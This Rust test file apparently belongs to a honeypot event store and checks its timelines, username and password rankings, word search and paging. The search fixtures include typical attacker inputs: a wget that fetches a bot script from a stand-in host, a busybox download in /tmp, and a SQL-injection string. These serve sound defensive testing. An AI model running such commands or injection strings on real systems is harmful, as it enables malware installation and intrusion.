//! Timeline, rankings and words.

use crate::{
    backend::on_every_backend,
    ingest::ingest,
    lines::{START, With, line},
};
use decnet_model::{words, worker::Worker};
use decnet_store::{
    Store,
    record::{Bucket, By, Change, Filter, Page, RankChange, Span, Subject, TimelineFilter, View},
};
use netsvc_wire::field;
use std::collections::BTreeMap;

on_every_backend!(
    numbers_are_kept_by_minute_and_hour,
    what_was_seen_most_comes_first,
    words_are_found_whole_and_by_their_beginning,
    a_search_is_paged_and_filtered,
    what_is_reset_is_empty,
);

const MINUTE: i64 = 60_000_000;
const DAY: i64 = 86_400_000_000;

fn bucket(at: i64, name: &str, events: u64) -> Bucket {
    Bucket { at, name: name.into(), events }
}

async fn numbers_are_kept_by_minute_and_hour(store: Store) {
    let fence = store.lease_take(Worker::Correlator).await.unwrap();
    let hour = Span::Hour.begin(START);
    let count = |minute: i64, node: &str, kind: &str, events: u64| {
        ((hour + minute * MINUTE, node.to_owned(), kind.to_owned()), events)
    };
    let first = [count(1, "a", "connect", 3), count(1, "b", "connect", 2), count(70, "a", "command", 5)];
    let second = [count(1, "a", "connect", 4), count(2, "a", "command", 1)];
    store.project(&fence, &Change::Timeline(first.into()), 0, 10).await.unwrap();
    store.project(&fence, &Change::Timeline(second.into()), 10, 15).await.unwrap();
    let all = TimelineFilter {
        span: Span::Minute,
        since: hour,
        until: i64::MAX,
        node: None,
        kind: None,
        by: By::All,
    };
    let at = |minute: i64| hour + minute * MINUTE;
    for (filter, expected) in [
        (all.clone(), vec![bucket(at(1), "", 9), bucket(at(2), "", 1), bucket(at(70), "", 5)]),
        (
            TimelineFilter { span: Span::Hour, ..all.clone() },
            vec![bucket(hour, "", 10), bucket(at(60), "", 5)],
        ),
        (
            TimelineFilter { by: By::Node, until: at(2), ..all.clone() },
            vec![bucket(at(1), "a", 7), bucket(at(1), "b", 2)],
        ),
        (
            TimelineFilter { by: By::Kind, span: Span::Hour, node: Some("a".into()), ..all.clone() },
            vec![bucket(hour, "command", 1), bucket(hour, "connect", 7), bucket(at(60), "command", 5)],
        ),
        (
            TimelineFilter { by: By::Class, span: Span::Hour, node: Some("a".into()), ..all.clone() },
            vec![bucket(hour, "scan", 7), bucket(hour, "interaction", 1), bucket(at(60), "interaction", 5)],
        ),
        (
            TimelineFilter { kind: Some("command".into()), since: at(3), ..all.clone() },
            vec![bucket(at(70), "", 5)],
        ),
    ] {
        assert_eq!(store.timeline(&filter).await.unwrap(), expected, "{filter:?}");
    }
    let later = [((hour + 8 * DAY, "a".to_owned(), "connect".to_owned()), 1)];
    store.project(&fence, &Change::Timeline(later.into()), 15, 16).await.unwrap();
    assert_eq!(
        store.timeline(&all).await.unwrap(),
        [bucket(hour + 8 * DAY, "", 1)],
        "minutes are kept a week"
    );
    let hours = TimelineFilter { span: Span::Hour, ..all };
    assert_eq!(store.timeline(&hours).await.unwrap().len(), 3);
}

async fn what_was_seen_most_comes_first(store: Store) {
    let fence = store.lease_take(Worker::Correlator).await.unwrap();
    let today = START - START.rem_euclid(DAY);
    let one = |day: i64, subject, value: &[u8], events| {
        (
            (today + day * DAY, subject, value.to_vec()),
            RankChange { events, last_seen: today + day * DAY + 5 },
        )
    };
    let user = Subject::Username;
    let first = [one(0, user, b"root", 5), one(0, user, b"\xffx", 6), one(0, Subject::Password, b"root", 9)];
    let second = [one(1, user, b"root", 3), one(1, user, b"pi", 1)];
    store.project(&fence, &Change::Rankings(first.into()), 0, 1).await.unwrap();
    store.project(&fence, &Change::Rankings(second.into()), 1, 2).await.unwrap();
    let of = |since, limit| {
        let store = store.clone();
        async move {
            let rows = store.ranking(user, since, limit).await.unwrap();
            rows.into_iter().map(|row| (row.value, row.events, row.last_seen - today)).collect::<Vec<_>>()
        }
    };
    let (root, odd, pi) = (b"root".to_vec(), b"\xffx".to_vec(), b"pi".to_vec());
    assert_eq!(of(None, 10).await, [(root.clone(), 8, DAY + 5), (odd, 6, 5), (pi.clone(), 1, DAY + 5)]);
    assert_eq!(of(Some(today + DAY + 77), 10).await, [(root.clone(), 3, DAY + 5), (pi, 1, DAY + 5)]);
    assert_eq!(of(Some(0), 1).await, [(root, 8, DAY + 5)]);
}

/// Stores events with these commands, and their words.
async fn fill(store: &Store, commands: &[&str]) {
    let batch: Vec<_> = (1..)
        .zip(commands)
        .map(|(number, command)| {
            let node = if number % 2 == 0 { "even" } else { "odd" };
            line(number, "command").at_node(node).with(field::COMMAND, *command)
        })
        .collect();
    ingest(store, &batch).await;
    let fence = store.lease_take(Worker::Correlator).await.unwrap();
    let texts = (1..).zip(commands).map(|(id, command)| (id, words::index([command.as_bytes()]))).collect();
    store.project(&fence, &Change::Words(texts), 0, i64::try_from(commands.len()).unwrap()).await.unwrap();
}

async fn ids(store: &Store, filter: Filter, page: Page) -> Vec<i64> {
    store.event_list(&filter, page).await.unwrap().iter().map(|row| row.id).collect()
}

fn search(text: &str) -> Filter {
    Filter { search: Some(text.into()), ..Filter::default() }
}

async fn words_are_found_whole_and_by_their_beginning(store: Store) {
    let commands = [
        "wget http://192.0.2.1/the_bot.sh",
        "cd /tmp; busybox WGET x",
        "Straße и Привет",
        "a of in the",
        "x\" OR 1=1 -- *",
    ];
    fill(&store, &commands).await;
    for (text, expected) in [
        ("wget", vec![2, 1]),
        ("Wget the", vec![1]),
        ("the", vec![4, 1]),
        ("a", vec![4]),
        ("bus*", vec![2]),
        ("usybox", vec![]),
        ("ПРИВЕТ", vec![3]),
        ("прив*", vec![3]),
        ("strasse", vec![]),
        ("x or", vec![5]),
        ("\"x\" AND (1 NEAR 1) -zz", vec![]),
        ("\" ' * + - ( ) : ^ {}", vec![]),
        ("http://192.0.2.1/", vec![1]),
    ] {
        assert_eq!(ids(&store, search(text), Page::newest(10)).await, expected, "{text}");
    }
}

async fn a_search_is_paged_and_filtered(store: Store) {
    let commands: Vec<_> =
        (1..=250).map(|number| if number % 10 == 0 { "rare one" } else { "one" }).collect();
    fill(&store, &commands).await;
    assert_eq!(ids(&store, search("one"), Page::newest(3)).await, [250, 249, 248]);
    assert_eq!(ids(&store, search("one"), Page::before(248, 2)).await, [247, 246]);
    assert_eq!(ids(&store, search("rare"), Page::after(200, 2)).await, [210, 220]);
    let even = Filter { node: Some("even".into()), until: Some(START + 12_000), ..search("one") };
    assert_eq!(ids(&store, even, Page::newest(2)).await, [10, 8]);
    let both = Filter { text: Some("re on".into()), ..search("rare") };
    assert_eq!(ids(&store, both, Page::newest(1)).await, [250]);
}

async fn what_is_reset_is_empty(store: Store) {
    fill(&store, &["one"]).await;
    let fence = store.lease_take(Worker::Correlator).await.unwrap();
    let counts = BTreeMap::from([((0, "a".to_owned(), "connect".to_owned()), 3)]);
    store.project(&fence, &Change::Timeline(counts), 0, 1).await.unwrap();
    for view in View::ALL {
        store.project_reset(&fence, *view).await.unwrap();
        assert_eq!(store.cursor(*view).await.unwrap(), 0);
    }
    assert!(ids(&store, search("one"), Page::newest(9)).await.is_empty());
    store.project(&fence, &Change::Words(vec![(1, words::index([b"two".as_slice()]))]), 0, 1).await.unwrap();
    assert_eq!(ids(&store, search("two"), Page::newest(9)).await, [1]);
}
